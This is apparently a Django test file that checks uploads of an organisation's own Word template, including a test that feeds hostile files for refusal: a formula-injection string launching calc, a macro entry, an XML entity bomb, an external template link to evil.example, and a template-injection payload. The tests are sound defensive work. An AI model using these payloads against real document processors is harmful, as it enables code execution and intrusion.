"""An organisation's own Word template: used when it passes, refused with a clear message
when a placeholder is missing or the file is hostile (like a hostile spreadsheet)."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from teamwerk.documents.models import HouseStyle
from teamwerk.documents.render import job_template_bytes
from teamwerk.documents.tests.test_documents import docx_text
from teamwerk.team.models import Person

URL = "documents_house_style"


def _with_paragraph(text: str) -> bytes:
    from docx import Document

    document = Document(io.BytesIO(job_template_bytes()))
    document.paragraphs[0].insert_paragraph_before(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _upload(client, data: bytes, kind: str = "job"):
    return client.post(
        reverse(URL),
        {"kind": kind, "file": SimpleUploadedFile("huisstijl.docx", data)},
    )


def _replace_in_zip(data: bytes, name: str, content: bytes | None = None, add=None) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for entry in source.infolist():
            body = source.read(entry)
            if entry.filename == name and content is not None:
                body = content
            target.writestr(entry, body)
        for extra_name, extra in (add or {}).items():
            target.writestr(extra_name, extra)
    return buffer.getvalue()


def test_own_template_is_used_for_the_job_descriptions(client_for, world):
    client = client_for("beheerder")
    response = _upload(client, _with_paragraph("Huisstijl Scholengroep Demo"))
    assert response.status_code == 302
    tom = Person.objects.get(email="teamlid.noord@scholengroep-demo.be")
    text = docx_text(
        client.get(reverse("documents_job_file", args=[world.noord.pk, tom.pk, "docx"])).content
    )
    assert "Huisstijl Scholengroep Demo" in text and "Tom Peeters" in text
    # Another organisation keeps Teamwerk's own template.
    assert not HouseStyle.objects.filter(organisation=world.other_organisation).exists()


def test_missing_placeholder_is_named(client_for, world):
    from docx import Document

    document = Document()
    document.add_paragraph("{{ d.person }} {{ d.function }}")
    buffer = io.BytesIO()
    document.save(buffer)
    response = _upload(client_for("beheerder"), buffer.getvalue())
    assert response.status_code == 200
    page = response.content.decode()
    assert "Deze plaatshouders ontbreken in het sjabloon" in page
    assert "d.sections" in page and "d.first_evaluator" in page
    assert not HouseStyle.objects.exists()


BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><w:document>&lol2;</w:document>'
)


@pytest.mark.parametrize(
    ("name", "make", "message"),
    [
        ("not a zip", lambda: b"=cmd|' /C calc'!A0", "geen Word-bestand"),
        (
            "macros",
            lambda: _replace_in_zip(job_template_bytes(), "", add={"word/vbaProject.bin": b"x"}),
            "macro's",
        ),
        (
            "entity bomb",
            lambda: _replace_in_zip(job_template_bytes(), "word/document.xml", BOMB),
            "geen geldige of veilige XML",
        ),
        (
            "external link",
            lambda: _replace_in_zip(
                job_template_bytes(),
                "",
                add={
                    "word/_rels/extra.xml.rels": b'<?xml version="1.0"?><Relationships '
                    b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    b'<Relationship Id="x" Type="t" Target="http://evil.example/t.dotm" '
                    b'TargetMode="External"/></Relationships>'
                },
            ),
            "buiten het document",
        ),
        (
            "template injection",
            lambda: _with_paragraph("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
            "kon niet gevuld worden",
        ),
        ("too big", lambda: b"PK" + b"0" * (2 * 1024 * 1024 + 10), "groter dan 2 MB"),
    ],
)
def test_hostile_docx_is_refused(client_for, world, name, make, message):
    response = _upload(client_for("beheerder"), make())
    assert response.status_code == 200, name
    assert message in response.content.decode(), name
    assert not HouseStyle.objects.exists()


def test_only_the_beheerder_changes_the_templates(client_for, world):
    for key in ("directie_noord", "ict_noord", "teamlid_noord"):
        response = _upload(client_for(key), _with_paragraph("x"))
        assert response.status_code == 403
    assert not HouseStyle.objects.exists()
